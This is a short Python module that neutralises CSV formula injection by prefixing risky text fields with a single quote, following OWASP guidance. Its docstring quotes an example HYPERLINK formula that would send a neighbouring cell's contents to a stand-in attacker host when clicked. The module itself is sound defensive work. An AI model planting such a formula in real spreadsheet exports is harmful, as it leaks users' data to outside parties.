"""Text cells that a spreadsheet shows as text: no formula from a title, a label or a reviewer's text.

Excel, LibreOffice and Google Sheets read a CSV field beginning with ``=``, ``+``, ``-`` or ``@`` (and, for
some, a tab or a carriage return) as a formula: ``=HYPERLINK("http://evil.example/?leak="&B2,"x")`` in a
gap text would send the neighbouring cell to another site when clicked. As OWASP recommends ("CSV
Injection"), such a field is written with a single quote in front, which the spreadsheet shows as text. A
number is not text and stays as it is; so does text that is just a number (``-0.5``), which no spreadsheet
reads as anything but that number.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def neutralised(value: Any) -> Any:
    """``value`` as a CSV field that no spreadsheet reads as a formula: text beginning with a formula
    character gets a leading single quote; anything else (numbers above all) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
